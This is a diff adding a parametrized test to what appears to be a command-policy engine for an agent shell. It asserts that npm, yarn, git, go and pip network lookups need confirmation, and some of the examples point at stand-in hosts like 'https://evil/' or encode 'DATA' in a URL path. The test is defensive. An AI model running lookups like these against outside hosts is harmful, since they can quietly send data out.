@@ -225,3 +225,27 @@ def test_a_planted_file_named_like_an_option_stops_a_glob(tmp_path: Path) -> Non
     verdict = engine.check_command("sort *")
     assert verdict.decision is Decision.CONFIRM
     assert "option" in verdict.reason
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "npm view x --registry=https://host/",
+        "npm view left-pad",
+        "npm search foo",
+        "yarn info react",
+        "npm ls --registry https://evil/",
+        "git remote show https://host/DATA",
+        "git remote show origin",
+        "git ls-remote https://host/x",
+        "git fetch",
+        "go list -m host/DATA@latest",
+        "go list -m -versions golang.org/x/text",
+        "go list -m all",
+        "pip download requests --index-url https://evil/simple",
+    ],
+)
+def test_network_lookups_ask_and_say_so(engine: PolicyEngine, command: str) -> None:
+    verdict = engine.check_command(command)
+    assert verdict.decision is Decision.CONFIRM
+    assert "network" in verdict.reason or "registry" in verdict.reason, verdict
